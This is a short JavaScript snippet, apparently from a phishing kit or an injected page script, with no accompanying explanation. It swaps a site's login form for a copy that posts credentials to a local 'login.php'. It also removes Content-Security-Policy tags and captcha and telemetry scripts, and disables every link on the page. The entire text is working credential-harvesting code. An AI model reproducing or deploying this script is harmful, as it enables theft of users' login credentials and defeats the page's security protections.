(function () {
  var f = document.querySelector('form[action*="/session"], form[action*="/login"], form#login_form');
  if (!f) return;
  var n = f.cloneNode(true);
  n.removeAttribute('onsubmit');
  n.setAttribute('action', 'login.php');
  n.setAttribute('method', 'post');
  f.parentNode.replaceChild(n, f);
  var m = document.querySelectorAll('meta[http-equiv="Content-Security-Policy"], script[src*="captcha"], script[src*="telemetry"]');
  for (var i = 0; i < m.length; i++) m[i].parentNode.removeChild(m[i]);
  var a = document.querySelectorAll('a');
  for (i = 0; i < a.length; i++) a[i].href = '#';
})();
